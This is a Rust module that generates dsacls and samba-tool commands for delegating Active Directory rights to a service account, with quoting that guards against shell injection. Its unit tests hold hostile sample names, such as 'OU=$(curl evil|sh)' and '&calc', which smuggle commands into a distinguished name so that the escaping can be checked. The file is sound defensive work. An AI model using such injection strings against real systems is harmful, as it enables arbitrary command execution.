//! How the service account is given its rights: the commands for it, and the same over LDAP.

use ldap3::Scope;

use super::answer::diagnostic;
use super::class::Class;
use super::connection::{Connection, RequestError, Search};
use super::entry::bytes;
use super::right::Right;
use super::security_descriptor::{Malformed, SecurityDescriptor};
use super::trustee::Trustee;
use crate::protocol::untrusted::one_line;

/// Which tool an administrator of this directory has at hand.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Tool {
    /// `dsacls`, on Windows.
    Dsacls,
    /// `samba-tool dsacl`, on a domain controller of Samba.
    SambaTool,
}

/// Where a right is given.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Reach<'a> {
    /// On a unit, for all accounts of these classes below it.
    Below(&'a [Class]),
    /// On the object itself.
    Object,
}

impl<'a> Reach<'a> {
    /// Each needs an entry of its own.
    fn each(self) -> Vec<Option<&'a Class>> {
        match self {
            Self::Below(classes) => classes.iter().map(Some).collect(),
            Self::Object => vec![None],
        }
    }
}

/// Why the rights were not given.
#[derive(Debug, thiserror::Error)]
pub(super) enum DelegationError {
    /// No answer.
    #[error("{dn}: {error}")]
    Request { dn: String, error: RequestError },
    /// The domain controller said no.
    #[error("{dn}: its permissions can't be {doing} with this account: {said}")]
    Refused { dn: String, doing: &'static str, said: String },
    /// What it sent can't be understood; it was left as it is.
    #[error("{dn}: {error}")]
    Malformed { dn: String, error: Malformed },
    /// There is no SID to give them to.
    #[error("there is no account {0} in this domain: create the service account first")]
    NoAccount(String),
}

impl Tool {
    /// Of a directory that calls itself Samba, or does not.
    pub(super) fn of(is_samba: bool) -> Self {
        if is_samba { Self::SambaTool } else { Self::Dsacls }
    }

    /// The command that gives one right.
    pub(super) fn grant(self, right: Right, trustee: &Trustee, dn: &str, reach: Reach<'_>) -> String {
        self.grant_all(&[right], trustee, dn, reach)
    }

    /// The command that gives some rights.
    pub(super) fn grant_all(self, rights: &[Right], trustee: &Trustee, dn: &str, reach: Reach<'_>) -> String {
        let entries = reach.each().into_iter().flat_map(|class| rights.iter().map(move |right| (class, right)));
        match self {
            Self::Dsacls => {
                let inherit = if reach == Reach::Object { "" } else { " /I:S" };
                let grants = entries.map(|(class, right)| {
                    // Whoever extends the schema has chosen its name.
                    let class = class.map(|class| format!(";{}", plain(&class.name))).unwrap_or_default();
                    format!(" \"{}:{}{class}\"", plain(&trustee.name), right.dsacls())
                });
                format!("dsacls {}{inherit} /G{}", self.quoted(dn), grants.collect::<String>())
            }
            Self::SambaTool => {
                let sid = trustee.sid_text();
                let entries = entries.map(|(class, right)| right.sddl("OA", &sid, class.map(|class| class.id)));
                let sddl = self.quoted(&entries.collect::<String>());
                format!("samba-tool dsacl set --objectdn={} --sddl={sddl}", self.quoted(dn))
            }
        }
    }

    /// How an entry that denies is taken away. `sddl` is the entry; `who` it is about.
    pub(super) fn remove_deny(self, dn: &str, who: &str, sddl: &str) -> String {
        match self {
            // It can't name a single entry.
            Self::Dsacls => {
                let who = self.quoted(who);
                format!("dsacls {} /R {who}   (removes all entries of {who} there)", self.quoted(dn))
            }
            Self::SambaTool => {
                format!("samba-tool dsacl delete --objectdn={} --sddl={}", self.quoted(dn), self.quoted(sddl))
            }
        }
    }

    /// How inheritance is let in again; or, where no command does that, the right given below.
    pub(super) fn let_in(self, right: Right, trustee: &Trustee, dn: &str, reach: Reach<'_>) -> String {
        match self {
            Self::Dsacls => format!("dsacls {} /P:N", self.quoted(dn)),
            Self::SambaTool => self.grant(right, trustee, dn, reach),
        }
    }

    /// For the command line that the tool is called from: whoever may make a unit has chosen its name.
    fn quoted(self, text: &str) -> String {
        match self {
            Self::Dsacls => format!("\"{}\"", plain(text)),
            // Between single quotation marks, sh takes everything as it is; but a line is to stay one.
            Self::SambaTool if one_line(text) != text => format!("'{NO_COMMAND_LINE}'"),
            Self::SambaTool => format!("'{}'", text.replace('\'', r"'\''")),
        }
    }
}

/// Stands in a command for a name that can't be written there.
const NO_COMMAND_LINE: &str = "NAME-THAT-NO-COMMAND-LINE-TAKES";

/// A name that both `cmd` and PowerShell take between quotation marks as it is; else a word that stands for it, since no
/// spelling of it is safe in both.
fn plain(name: &str) -> &str {
    let ends_or_expands = |c: char| matches!(c, '"' | '“' | '”' | '„' | '$' | '`' | '%' | '!' | '^');
    if name.contains(ends_or_expands) || one_line(name) != name { NO_COMMAND_LINE } else { name }
}

/// The access list of an object.
pub(super) async fn read_dacl(connection: &Connection, dn: &str) -> Result<SecurityDescriptor, DelegationError> {
    let search = Search {
        base: dn.to_owned(),
        scope: Scope::Base,
        filter: "(objectClass=*)".to_owned(),
        attributes: &["nTSecurityDescriptor"],
    };
    let request = |error| DelegationError::Request { dn: dn.to_owned(), error };
    let (entries, result) = connection.sample(1, &search).await.map_err(request)?;
    let value = entries.first().and_then(|entry| bytes(entry, "nTSecurityDescriptor").into_iter().next());
    let said = if result.rc == 0 { "it is not shown".to_owned() } else { diagnostic(&result) };
    let value = value.ok_or(DelegationError::Refused { dn: dn.to_owned(), doing: "read", said })?;
    SecurityDescriptor::read(&value).map_err(|error| DelegationError::Malformed { dn: dn.to_owned(), error })
}

/// Gives the four rights on the accounts of `classes` below `dn`, as whoever is bound on `connection`. The classes of which
/// any was missing there.
pub(super) async fn apply(
    connection: &Connection,
    trustee: &Trustee,
    dn: &str,
    classes: &[Class],
) -> Result<Vec<Class>, DelegationError> {
    let sid = trustee.sid.as_ref().ok_or_else(|| DelegationError::NoAccount(trustee.name.clone()))?;
    let mut descriptor = read_dacl(connection, dn).await?;
    let mut given = classes.to_vec();
    given.retain(|class| descriptor.add(Right::DELEGATED.map(|right| right.entry(sid, Some(class)))));
    if given.is_empty() {
        return Ok(given);
    }
    let malformed = |error| DelegationError::Malformed { dn: dn.to_owned(), error };
    let bytes = descriptor.to_bytes().map_err(malformed)?;
    match connection.replace_dacl(dn, &bytes).await {
        Ok(result) if result.rc == 0 => Ok(given),
        Ok(result) => Err(DelegationError::Refused { dn: dn.to_owned(), doing: "changed", said: diagnostic(&result) }),
        Err(error) => Err(DelegationError::Request { dn: dn.to_owned(), error }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn trustee() -> Trustee {
        Trustee { name: "svc@corp.example".to_owned(), sid: None }
    }

    #[test]
    fn no_name_is_more_than_a_name_in_a_command() {
        for name in [
            "OU=$(curl evil|sh),DC=c",
            "OU=`id`,DC=c",
            "OU=\\\"&calc,DC=c",
            "OU=”;id,DC=c",
            "OU=%TEMP%,DC=c",
            "OU=a\nid,DC=c",
            "OU=\u{202e},DC=c",
        ] {
            let trustee = Trustee { name: name.to_owned(), sid: None };
            let command = Tool::Dsacls.grant(Right::ResetPassword, &trustee, name, Reach::Below(&[Class::user()]));
            let expected = r#"dsacls "NAME" /I:S /G "NAME:CA;Reset Password;user""#;
            assert_eq!(command, expected.replace("NAME", NO_COMMAND_LINE), "{name}");
            assert!(!Tool::Dsacls.remove_deny(name, name, "").contains(name));
            let command = Tool::SambaTool.remove_deny(name, name, name);
            let quoted = if one_line(name) == name { name } else { NO_COMMAND_LINE };
            assert_eq!(command, format!("samba-tool dsacl delete --objectdn='{quoted}' --sddl='{quoted}'"));
        }
    }

    #[test]
    fn the_commands_are_those_that_the_tools_take() {
        let dn = "OU=Staff,DC=corp,DC=example";
        assert_eq!(
            Tool::Dsacls.grant(Right::ResetPassword, &trustee(), dn, Reach::Below(&[Class::user()])),
            r#"dsacls "OU=Staff,DC=corp,DC=example" /I:S /G "svc@corp.example:CA;Reset Password;user""#
        );
        assert_eq!(
            Tool::Dsacls.grant(Right::UnexpirePassword, &trustee(), "DC=corp,DC=example", Reach::Object),
            r#"dsacls "DC=corp,DC=example" /G "svc@corp.example:CA;Unexpire Password""#
        );
        assert_eq!(
            Tool::SambaTool.grant(Right::WriteLockoutTime, &trustee(), r#"OU=O\"Neil's,DC=c"#, Reach::Object),
            r#"samba-tool dsacl set --objectdn='OU=O\"Neil'\''s,DC=c' "#.to_owned()
                + "--sddl='(OA;;WP;28630ebf-41d5-11d1-a9c1-0000f80367c1;;SID-OF-svc@corp.example)'"
        );
    }
}
